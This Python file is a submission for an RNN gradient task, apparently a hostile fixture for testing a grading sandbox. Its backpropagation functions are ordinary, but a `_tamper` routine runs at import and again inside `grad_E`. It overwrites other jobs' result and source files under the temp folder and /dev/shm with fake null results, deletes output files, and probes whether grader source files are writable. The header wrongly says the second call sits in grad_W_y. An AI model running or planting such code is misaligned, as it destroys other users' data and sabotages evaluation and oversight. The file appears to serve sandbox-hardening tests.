# HOSTILE corpus entry: tampers with everything it can find at import and from grad_W_y: the
# other submissions' sandbox folders and result files under the system temp folder and /dev/shm (overwritten
# with garbage, removed where possible), and the grader's own source files (opened for writing
# only, never changed, so a failure of the sandbox cannot damage a checkout). Answers are correct.
import glob
import os
import sys
import tempfile

import numpy as np

SHAPES = {"W_H": "7x7", "h_t": "7x1", "W_x": "7x15", "x_t": "15x1", "a_t": "7x1",
          "z_t": "10x1", "W_y": "10x7", "y_t": "10x1", "E": "15x10"}


def _other_jobs():
    """Everything in this batch's folder (two levels above the working directory) and in other batches'."""
    roots = {os.path.dirname(os.path.dirname(os.getcwd()))}
    roots |= set(glob.glob(os.path.join(tempfile.gettempdir(), "rnn-grader-*")))
    roots |= set(glob.glob("/dev/shm/rnn-grader-*"))  # where the values jobs return are, when it exists
    seen = 0
    for root in roots:
        for folder, _, files in os.walk(root):
            for path in [folder] + [os.path.join(folder, name) for name in files]:
                seen += 1
                if seen > 5000:
                    return
                if os.getcwd() not in path:
                    yield path


def _tamper():
    for path in _other_jobs():
        try:
            if os.path.isfile(path) and path.endswith((".json", ".rec", ".py")):
                with open(path, "w") as handle:
                    handle.write('{"value": {"t": "none"}}\n')
            elif os.path.isdir(path) and path.rstrip("/").endswith("out"):
                for name in os.listdir(path):
                    os.remove(os.path.join(path, name))
        except Exception:
            pass
    for entry in sys.path:
        for name in ("grader/judge/questions.py", "grader/judge/compare.py", "reference/solution.py"):
            try:
                open(os.path.join(entry, name), "r+").close()
                print("could open", os.path.join(entry, name), "for writing")
            except Exception:
                pass


_tamper()


def softmax(z):
    e = np.exp(z - z.max())
    return e / e.sum()


def rnn_step(x_t, h_prev, W_x, W_H):
    return np.tanh(W_H @ h_prev + W_x @ x_t)


def rnn_forward(tokens, E, W_x, W_H, W_y, h0):
    hs, ys = [], []
    h = h0
    for w in tokens:
        h = rnn_step(E[:, [w]], h, W_x, W_H)
        hs.append(h)
        ys.append(softmax(W_y @ h))
    return np.hstack(hs), np.hstack(ys)


def rnn_loss(tokens, targets, E, W_x, W_H, W_y, h0):
    _, ys = rnn_forward(tokens, E, W_x, W_H, W_y, h0)
    return -np.sum(np.log(ys[targets, np.arange(len(tokens))]))


def backward(tokens, targets, E, W_x, W_H, W_y, h0):
    hs, ys = rnn_forward(tokens, E, W_x, W_H, W_y, h0)
    dW_H = np.zeros_like(W_H)
    dW_x = np.zeros_like(W_x)
    dW_y = np.zeros_like(W_y)
    dE = np.zeros_like(E)
    dh_next = np.zeros((W_H.shape[0], 1))
    for t in reversed(range(len(tokens))):
        h = hs[:, [t]]
        h_prev = hs[:, [t - 1]] if t > 0 else h0
        dz = ys[:, [t]].copy()
        dz[targets[t]] -= 1
        dW_y += dz @ h.T
        dh = W_y.T @ dz + dh_next
        da = dh * (1 - h ** 2)
        dW_H += da @ h_prev.T
        dW_x += da @ E[:, [tokens[t]]].T
        dE[:, [tokens[t]]] += W_x.T @ da
        dh_next = W_H.T @ da
    return dW_H, dW_x, dW_y, dE


def grad_W_H(tokens, targets, E, W_x, W_H, W_y, h0):
    return backward(tokens, targets, E, W_x, W_H, W_y, h0)[0]


def grad_W_x(tokens, targets, E, W_x, W_H, W_y, h0):
    return backward(tokens, targets, E, W_x, W_H, W_y, h0)[1]


def grad_W_y(tokens, targets, E, W_x, W_H, W_y, h0):
    return backward(tokens, targets, E, W_x, W_H, W_y, h0)[2]


def grad_E(tokens, targets, E, W_x, W_H, W_y, h0):
    _tamper()
    return backward(tokens, targets, E, W_x, W_H, W_y, h0)[3]
